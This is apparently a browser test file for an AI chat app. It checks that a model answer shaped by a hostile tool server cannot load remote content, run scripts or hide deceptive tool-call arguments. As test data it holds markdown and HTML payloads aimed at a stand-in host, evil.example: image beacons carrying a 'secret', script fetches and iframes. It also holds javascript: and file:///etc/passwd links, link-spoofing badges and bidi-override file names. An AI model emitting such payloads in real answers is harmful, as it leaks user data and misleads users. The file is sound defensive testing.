import { writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchBrowser } from '../doubles/browser.ts';
import { tempFolder } from '../doubles/hostParts.ts';
import { turnEnd } from '../doubles/testHost.ts';
import { composer } from '../ui/driveApp.ts';
import { builtPage } from '../ui/builtPage.ts';
import { openRealWindow } from '../ui/realWindow.ts';
import { hostile } from './world.ts';

let browser: Browser;
let rendererDir: string;
beforeAll(async () => {
  rendererDir = await builtPage('renderer');
  browser = await launchBrowser();
}, 120_000);
afterAll(() => browser.close());

/** A window on a chat whose model says and asks for what a hostile result told it to. */
async function windowOn(steps: unknown[]) {
  const folder = tempFolder();
  const script = path.join(folder, 'script.json');
  const serversFile = path.join(folder, 'named.json');
  writeFileSync(script, JSON.stringify({ steps }));
  writeFileSync(serversFile, JSON.stringify({ mcpServers: { odd: hostile() } }));
  const window = await openRealWindow(browser, rendererDir, { scriptFiles: [script], serversFile });
  const elsewhere: string[] = [];
  window.page.on('request', (request) => {
    const { hostname, protocol } = new URL(request.url());
    if (hostname !== '127.0.0.1' && protocol !== 'data:' && protocol !== 'blob:') elsewhere.push(request.url());
  });
  await window.test.serversReady();
  const { conversation } = await window.test.run('conversation.create', { model: `scripted:${script}` });
  await window.test.run('turn.send', { conversationId: conversation.id, text: 'please read it to me' });
  return { ...window, elsewhere, conversation };
}

/** Opens the chat, and shows that the window still takes words. */
async function stillWorks({ page, problems }: { page: Page; problems: string[] }): Promise<void> {
  await page.getByText('please read it to me').first().click();
  await composer(page).fill('still here');
  expect(await composer(page).inputValue()).toBe('still here');
  expect(problems).toEqual([]);
}

const remote = [
  '![pixel](https://evil.example/?q=secret)',
  '<img src="https://evil.example/raw"><script>fetch("https://evil.example/script")</script>',
  '<iframe src="https://evil.example/frame"></iframe><style>@import "https://evil.example/style"</style>',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) [d](vbscript:x) [e](//evil.example/x) <javascript:alert(1)>',
  '[see][ref]\n\n[ref]: javascript:alert(1)\n[^1]\n\n[^1]: ![note](https://evil.example/note)',
  '| ![cell](https://evil.example/cell) |\n| --- |\n| x |',
  '```mermaid\ngraph TD; A-->B; click A "https://evil.example/mermaid"\n```',
  '[![https://bank.example](badge.svg)](https://evil.example/go)',
].join('\n\n');

test('an answer full of pictures, frames, scripts and links to elsewhere loads nothing and links to pages of the web alone', async () => {
  const window = await windowOn([{ text: remote }]);
  await window.test.until(turnEnd(window.conversation.id));
  await stillWorks(window);
  const log = window.page.getByRole('log');
  await log.getByText('pixel').first().waitFor();
  expect(
    await log.locator('img, iframe, script, style, object, embed, svg[onload]').evaluateAll((found) => found.map((each) => each.outerHTML)),
  ).toEqual([]);
  for (const href of await log.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? '')))
    expect(href).toMatch(/^https:\/\//);
  // The words of a picture inside a link name one host, the link leads to another: that one is told.
  expect(await log.locator('a', { hasText: 'bank.example' }).first().textContent()).toContain('(evil.example)');
  expect(window.elsewhere).toEqual([]);
});

test.each([
  ['quotations', '>'.repeat(20_000)],
  ['lists', '- '.repeat(5000)],
  ['brackets', '['.repeat(20_000)],
  ['pictures', '!['.repeat(10_000)],
  ['emphasis', `${'*a '.repeat(10_000)}${'_b '.repeat(10_000)}`],
  ['links', '[a]('.repeat(10_000)],
  ['code marks', Array.from({ length: 300 }, (_, n) => `${'`'.repeat(n + 1)}a`).join(' ')],
  ['entities', '&#0;&lt;'.repeat(5000)],
  ['tables', `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n${`|${'b|'.repeat(10)}\n`.repeat(200)}`],
  ['definitions', Array.from({ length: 300 }, (_, n) => `[r${n}]: https://example.com/${n}\n\ntext`).join('\n\n')],
])('an answer of endless %s leaves a window that still works', { timeout: 60_000 }, async (_what, text) => {
  const window = await windowOn([{ text: `${text}\n\nthe end of it` }]);
  await window.test.until(turnEnd(window.conversation.id));
  await stillWorks(window);
  await window.page.getByText('the end of it').waitFor({ timeout: 45_000 });
  await stillWorks(window);
});

test.each([
  ['nested four hundred deep', () => ({ a: JSON.parse(`${'['.repeat(400)}"end"${']'.repeat(400)}`) })],
  ['of a thousand parts', () => Object.fromEntries(Array.from({ length: 1000 }, (_, n) => [`k${n}`, { v: n }]))],
  ['whose names hide their ends', () => ({ [`${'x'.repeat(5000)}\u202egpj.exe`]: 1, 'path\u200b': '/etc/passwd', path: 'fine.txt' })],
])('the card of a call with arguments %s shows them and can be denied', { timeout: 60_000 }, async (_what, values) => {
  const window = await windowOn([{ calls: [{ tool: 'odd.echo', arguments: values() }] }, { text: 'Done.' }]);
  await stillWorks(window);
  const card = window.page.locator('[data-card=approval]');
  await card.waitFor();
  await card.getByRole('button', { name: 'Deny', exact: true }).click();
  await window.test.until(turnEnd(window.conversation.id));
  expect(window.problems).toEqual([]);
});
